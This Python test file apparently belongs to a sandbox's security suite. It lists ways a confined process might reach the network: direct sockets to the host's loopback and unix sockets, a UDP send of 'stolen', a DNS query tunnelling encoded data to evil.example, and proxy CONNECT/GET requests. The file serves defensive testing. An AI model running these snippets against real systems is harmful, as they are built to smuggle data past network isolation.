"""After the network: each way that leads out of an ordinary process."""

from dataclasses import replace

from selfheald.domain.refusal import RefusalKind
from tests.security.attack import Attack, Weakness, without
from tests.security.scene import HAS_IPV6, Aftermath

OWN_NETWORK = "a network of its own, with nothing but a loopback interface"
SHARED = without("--unshare-net")

FETCH = """
stream = socket.socket({family})
stream.settimeout(5)
stream.connect({address})
print(stream.recv(1000))
"""

THROUGH_PROXY = """
proxy = os.environ['PROXY'].rpartition(':')[2]
stream = socket.create_connection(('127.0.0.1', int(proxy)), 10)
stream.sendall({request})
stream.settimeout(5)
try:
    while part := stream.recv(1000): print(part)
except TimeoutError: pass
print('LOST', 'refused')
"""


def _refused(after: Aftermath) -> bool:
    return any(refusal.kind is RefusalKind.EGRESS and refusal.what for refusal in after.refusals)


def _direct(
    name: str, tries: str, family: str, address: str, *, off: Weakness = SHARED, by: str = OWN_NETWORK
) -> Attack:
    return Attack(name=name, tries=tries, held_by=by, program=FETCH.format(family=family, address=address), off=off)


def _proxied(name: str, tries: str, request: str) -> Attack:
    return Attack(
        name=name,
        tries=tries,
        held_by="the gate's allow-list `egress`",
        program=THROUGH_PROXY.format(request=request),
        off=Weakness(egress=True),
        seen=_refused,
        seen_as="refusal of the case",
    )


NETWORK = (
    _direct(
        "reach-a-service-of-the-host",
        "reach a service on the host's 127.0.0.1",
        "socket.AF_INET",
        "('127.0.0.1', S['port'])",
    ),
    _direct(
        "reach-any-address-of-the-host",
        "reach the host by 0.0.0.0, which Linux takes for itself",
        "socket.AF_INET",
        "('0.0.0.0', S['port'])",
    ),
    replace(
        _direct("reach-the-host-by-ipv6", "reach a service on the host's ::1", "socket.AF_INET6", "('::1', S['port'])"),
        possible=HAS_IPV6,
    ),
    _direct(
        "reach-an-abstract-socket",
        "reach an abstract unix socket of the host, which has no file",
        "socket.AF_UNIX",
        "S['abstract']",
    ),
    _direct(
        "reach-a-unix-socket",
        "reach a unix socket of the host by its path",
        "socket.AF_UNIX",
        "f\"/proc/self/fd/{os.open(os.path.dirname(S['socket']), os.O_PATH)}/daemon.sock\"",
        off=Weakness(add=("--bind", "{folder}", "{folder}")),
        by="what is not shown in the sandbox does not exist there",
    ),
    Attack(
        name="send-datagrams",
        tries="send UDP to the host",
        held_by=OWN_NETWORK,
        program="""
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.settimeout(2)
sender.connect(('127.0.0.1', S['udp']))
sender.send(b'stolen')
print(sender.recv(100))
""",
        off=SHARED,
        won=lambda after: "stolen" in after.scene.knocks,
    ),
    Attack(
        name="tunnel-by-dns",
        tries="send data out as names that are looked up",
        held_by="no resolver is in reach; names are resolved outside, and only those of `egress`",
        program="""
name = b''.join(bytes([len(label)]) + label for label in (b'c3RvbGVu', b'evil', b'example')) + b'\\0'
query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + name + b'\\0\\x10\\0\\x01'
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.settimeout(2)
sender.connect(('127.0.0.1', S['udp']))
sender.send(query)
print(sender.recv(100))
""",
        off=SHARED,
        won=lambda after: any("c3RvbGVu" in knock for knock in after.scene.knocks),
    ),
    _proxied(
        "tunnel-to-another-host",
        "have the proxy open a tunnel to a host that is not allowed",
        "f\"CONNECT 127.0.0.1:{S['port']} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\".encode()",
    ),
    _proxied(
        "fetch-from-another-host",
        "have the proxy fetch from a host that is not allowed",
        "f\"GET http://127.0.0.1:{S['port']}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{S['port']}\\r\\n\".encode()"
        " + b'Connection: close\\r\\n\\r\\n'",
    ),
)
